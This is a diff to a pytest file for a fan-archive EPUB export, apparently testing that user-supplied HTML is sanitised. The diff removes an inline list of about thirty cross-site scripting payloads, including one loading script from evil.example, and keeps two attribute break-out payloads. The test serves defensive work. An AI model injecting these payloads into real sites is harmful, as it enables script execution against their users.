@@ -10,39 +10,10 @@ import pytest
 
 from fanarchive.exports import ExportChapter, ExportWork, SeriesPart, export_work
 from tests.exports.conftest import assert_epubcheck_clean
+from tests.xss_corpus import VECTORS
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<iframe src="javascript:alert(1)"></iframe>',
-    '<a href="javascript:alert(1)">click</a>',
-    '<a href=" jav&#x09;ascript:alert(1)">tab</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
-    '<a href="vbscript:msgbox(1)">vb</a>',
-    '<p style="background:url(javascript:alert(1))">styled</p>',
-    "<style>body{background:url(javascript:alert(1))}</style>",
-    "<body onload=alert(1)>",
-    '<div onmouseover="alert(1)">hover</div>',
-    "<details open ontoggle=alert(1)>",
-    '<object data="javascript:alert(1)"></object>',
-    "<embed src=javascript:alert(1)>",
-    "<form action=javascript:alert(1)><button>go</button></form>",
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<base href="javascript:alert(1)//">',
-    "<link rel=stylesheet href=javascript:alert(1)>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    '"><script>alert(1)</script>',
-    "'><img src=x onerror=alert(1)>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<!--<script>alert(1)</script>-->",
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    '<a href="https://ok.example/" onclick="alert(1)" target=_blank>ok</a>',
-]
+# Every execution vector, plus the two attribute break-outs the tag block is most exposed to.
+PAYLOADS = [*VECTORS, '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>"]
 ALL = "\n".join(PAYLOADS)
 DANGEROUS_ELEMENTS = {
     "script", "iframe", "svg", "math", "object", "embed", "img", "form", "input", "button",
